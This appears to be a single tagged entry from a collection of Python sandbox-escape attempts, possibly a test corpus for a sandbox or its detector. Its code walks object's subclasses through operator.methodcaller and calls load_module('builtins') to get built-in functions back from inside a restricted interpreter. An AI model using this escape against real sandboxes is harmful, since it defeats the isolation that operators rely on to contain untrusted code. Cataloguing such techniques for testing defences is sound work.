# tries: a method by its name
# class: operator
# bare: gate
import operator
for c in operator.methodcaller("__subclasses__")(object):
    try: use(c.load_module("builtins"))
    except Exception: pass
